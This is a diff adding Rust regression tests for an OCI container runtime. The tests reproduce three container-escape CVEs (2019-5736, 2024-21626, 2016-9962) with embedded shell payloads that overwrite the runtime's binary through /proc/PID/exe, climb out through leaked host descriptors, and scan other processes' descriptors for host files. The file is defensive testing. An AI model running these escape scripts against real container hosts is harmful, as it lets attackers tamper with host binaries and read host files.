@@ -1,0 +1,219 @@
+//! Ways out of a container through the runtime's own processes: its program file, its descriptors, its memory.
+//!
+//! Each attack is also made on a process of the host that is as careless as the runtimes once were.
+
+use std::fs;
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+use serde_json::json;
+use stockade_tests::{Bundle, Scratch, bin, rootfs, wait_until};
+
+const PATIENCE: Duration = Duration::from_secs(30);
+
+/// A container whose root has every capability, as the attacker of a `--privileged` one has.
+fn privileged(bundle: Bundle) -> Bundle {
+    let all = ["CAP_SYS_PTRACE", "CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_KILL"];
+    let sets = json!({"bounding": all, "effective": all, "permitted": all});
+    bundle.set("/process/capabilities", sets)
+}
+
+/// A running container whose init sleeps.
+struct Prison<'a> {
+    scratch: &'a Scratch,
+    id: String,
+    bundle: Bundle,
+}
+
+impl<'a> Prison<'a> {
+    fn start(scratch: &'a Scratch, name: &str) -> Self {
+        let bundle = privileged(scratch.bundle(&["sleep", "1000"]));
+        let id = scratch.id(name);
+        scratch.oci(&["run", "--detach", "--bundle", bundle.path().to_str().unwrap(), &id]).ok();
+        Self { scratch, id, bundle }
+    }
+
+    fn pid(&self) -> String {
+        self.scratch.oci(&["state", &self.id]).ok().json()["pid"].to_string()
+    }
+
+    fn exec(&self, args: &[&str]) -> stockade_tests::Cmd {
+        self.scratch.oci(&[&["exec", self.id.as_str()], args].concat())
+    }
+
+    fn file(&self, name: &str) -> PathBuf {
+        self.bundle.rootfs().join(name)
+    }
+
+    /// Starts a script inside and waits until it says that it is ready.
+    fn attacker(&self, script: &str) -> stockade_tests::Running {
+        let attacker = self.exec(&["sh", "-c", &format!("echo ready; {script}")]).spawn();
+        wait_until("the attacker to begin", PATIENCE, || attacker.stdout().contains("ready"));
+        attacker
+    }
+}
+
+/// A program of the host that somebody careless runs in the container's pid namespace.
+fn careless(prison: &Prison<'_>, program: &Path, args: &[&str]) -> Child {
+    let mut nsenter = Command::new("nsenter");
+    nsenter.args(["--target", &prison.pid(), "--pid", "--"]).arg(program).args(args);
+    nsenter.stdin(Stdio::null()).stdout(Stdio::null()).spawn().expect("start nsenter")
+}
+
+/// Waits for a process that runs a program of the host, holds the program, ends the process, writes to the program.
+/// Only the two programs that the test has copied for this are ever touched; the runtime's own view of itself is a mount
+/// without a path, or a memfd.
+const OVERWRITE: &str = r#"
+    while [ ! -e /done ]; do
+        for p in /proc/[0-9]*; do
+            case "$(readlink $p/exe)" in / | /memfd:* | */stockade-oci | */victim/busybox) ;; *) continue ;; esac
+            (
+                exec 9< $p/exe || exit
+                touch /seen
+                kill -9 ${p#/proc/}
+                while [ -e $p/exe ] && [ -n "$(readlink $p/exe)" ]; do sleep 0.01; done
+                echo overwritten > /proc/self/fd/9 && touch /hit
+            ) 2>/dev/null
+        done
+    done
+"#;
+
+/// A runtime that an attack which succeeds may spoil.
+fn copy_of_the_runtime() -> (tempfile::TempDir, PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    let runtime = dir.path().join("stockade-oci");
+    fs::copy(bin("stockade-oci"), &runtime).unwrap();
+    (dir, runtime)
+}
+
+/// CVE-2019-5736: a container makes the runtime run itself inside, as entry point, by exec or as a script's
+/// interpreter, and writes to it through /proc/PID/exe.
+#[test]
+fn cve_2019_5736_the_runtimes_program_cannot_be_overwritten() {
+    let (_copies, runtime) = copy_of_the_runtime();
+    let scratch = Scratch::with_binaries(runtime.parent().unwrap().to_owned());
+    let before = fs::metadata(&runtime).unwrap();
+    let prison = Prison::start(&scratch, "prison");
+    let attacker = prison.attacker(OVERWRITE);
+
+    // The program that ends up running is the runtime; it waits in a fifo for resources, and can be looked at.
+    Command::new("mkfifo").arg(prison.file("fifo")).status().unwrap();
+    fs::write(prison.file("script"), "#!/proc/self/exe\n").unwrap();
+    fs::set_permissions(prison.file("script"), fs::Permissions::from_mode(0o755)).unwrap();
+    for args in [&["/proc/self/exe", "update", "-r", "/fifo", "x"][..], &["/script"], &["/proc/self/exe", "--version"]]
+    {
+        for _ in 0..3 {
+            prison.exec(args).timeout(PATIENCE).run();
+        }
+    }
+    let after = fs::metadata(&runtime).unwrap();
+    assert!(!prison.file("hit").exists(), "the attacker wrote to the runtime");
+    assert_eq!((before.len(), before.modified().unwrap()), (after.len(), after.modified().unwrap()));
+    assert!(prison.file("seen").exists(), "the attacker never saw the runtime, so nothing was tried");
+
+    let victim = scratch.path("victim/busybox");
+    fs::create_dir(scratch.path("victim")).unwrap();
+    fs::copy(rootfs("busybox").join("bin/busybox"), &victim).unwrap();
+    let mut victim_process = careless(&prison, &victim, &["sleep", "1000"]);
+    wait_until("the attack on a careless program", PATIENCE, || prison.file("hit").exists());
+    assert_eq!(fs::read_to_string(&victim).unwrap(), "overwritten\n");
+    let _ = victim_process.wait();
+    fs::write(prison.file("done"), "").unwrap();
+    attacker.wait();
+}
+
+/// CVE-2019-5736, the first form: the image's entry point is the runtime itself.
+#[test]
+fn cve_2019_5736_the_runtime_as_entry_point() {
+    let (_copies, runtime) = copy_of_the_runtime();
+    let scratch = Scratch::with_binaries(runtime.parent().unwrap().to_owned());
+    let before = fs::metadata(&runtime).unwrap().modified().unwrap();
+    for args in [&["/proc/self/exe", "--version"], &["/proc/self/exe", "features"]] {
+        let bundle = privileged(scratch.bundle(args));
+        scratch.oci(&["run", "--bundle", bundle.path().to_str().unwrap(), &scratch.id("self")]).run();
+    }
+    assert_eq!(fs::metadata(&runtime).unwrap().modified().unwrap(), before);
+}
+
+/// Tries every descriptor as a way to a file of the host's, whose path is `$0`.
+const CLIMB: &str = r#"
+    for fd in /proc/self/fd/* /proc/self/cwd; do
+        cat "$fd/../../../../../../..$0" "$fd/$0" 2>/dev/null
+    done
+    cat "../../../../../../../../..$0" 2>/dev/null
+    true
+"#;
+
+/// CVE-2024-21626: a descriptor of a host directory is left open, or taken as the working directory.
+#[test]
+fn cve_2024_21626_no_descriptor_leads_out() {
+    let scratch = Scratch::new();
+    let mark = scratch.path("mark");
+    fs::write(&mark, "on the host").unwrap();
+    let mark = mark.to_str().unwrap();
+    let run = |cwd: &str| {
+        let bundle = privileged(scratch.bundle(&["sh", "-c", CLIMB, mark])).set("/process/cwd", json!(cwd));
+        scratch.oci(&["run", "--bundle", bundle.path().to_str().unwrap(), &scratch.id("climb")]).run().stdout
+    };
+    assert_eq!(run("/"), "");
+    for fd in 3..12 {
+        assert!(!run(&format!("/proc/self/fd/{fd}")).contains("on the host"), "by descriptor {fd}");
+    }
+    let prison = Prison::start(&scratch, "prison");
+    std::os::unix::fs::symlink("/proc/self/fd/7", prison.file("link")).unwrap();
+    for cwd in ["/proc/self/fd/3", "/proc/self/fd/5", "/proc/self/fd/7", "/proc/self/fd/9", "/link"] {
+        let args = ["exec", "--cwd", cwd, &prison.id, "sh", "-c", CLIMB, mark];
+        assert!(!scratch.oci(&args).run().stdout.contains("on the host"), "by exec in {cwd}");
+    }
+    assert!(leaky_run(&scratch, mark).contains("on the host"), "the attack works with a descriptor of the host");
+}
+
+/// The same with a directory of the host handed in on purpose.
+fn leaky_run(scratch: &Scratch, mark: &str) -> String {
+    let dir = fs::File::open("/").unwrap();
+    let bundle = privileged(scratch.bundle(&["sh", "-c", CLIMB, mark]));
+    let (path, id) = (bundle.path().to_str().unwrap(), scratch.id("leaky"));
+    let oci = scratch.oci(&["run", "--preserve-fds", "1", "--bundle", path, &id]).into_inner();
+    let mut command = vec![oci.get_program().to_owned()];
+    command.extend(oci.get_args().map(ToOwned::to_owned));
+    let shell = format!("exec 3< /proc/{}/fd/{}; exec \"$@\"", std::process::id(), dir.as_raw_fd());
+    let output = Command::new("sh").args(["-c", &shell, "sh"]).args(command).output().unwrap();
+    String::from_utf8_lossy(&output.stdout).into_owned()
+}
+
+/// Looks at the descriptors of every process that comes and goes.
+const WATCH: &str = r#"
+    while [ ! -e /done ]; do
+        for fd in /proc/[0-9]*/fd/*; do
+            if [ "$(cat $fd/secret 2>/dev/null)" = "on the host" ]; then touch /hit; fi
+        done
+    done
+"#;
+
+/// CVE-2016-9962: a process that joins the container can be traced by it before it has let go of the host's files.
+#[test]
+fn cve_2016_9962_a_joining_process_shows_nothing_of_the_host() {
+    let scratch = Scratch::new();
+    let prison = Prison::start(&scratch, "prison");
+    let state = scratch.oci_root().join(&prison.id);
+    for dir in [&state, &scratch.oci_root(), prison.bundle.path()] {
+        fs::write(dir.join("secret"), "on the host").unwrap();
+    }
+    let attacker = prison.attacker(WATCH);
+    for _ in 0..25 {
+        prison.exec(&["true"]).ok();
+    }
+    assert!(!prison.file("hit").exists(), "the attacker opened a directory of the runtime's");
+    fs::remove_file(scratch.oci_root().join("secret")).unwrap();
+
+    let shell = format!("exec 9< {}; sleep 1000", state.display());
+    let mut leaky = careless(&prison, Path::new("/bin/sh"), &["-c", &shell]);
+    wait_until("the attack on a careless process", PATIENCE, || prison.file("hit").exists());
+    fs::write(prison.file("done"), "").unwrap();
+    attacker.wait();
+    scratch.oci(&["delete", "--force", &prison.id]).ok();
+    let _ = leaky.wait();
+}
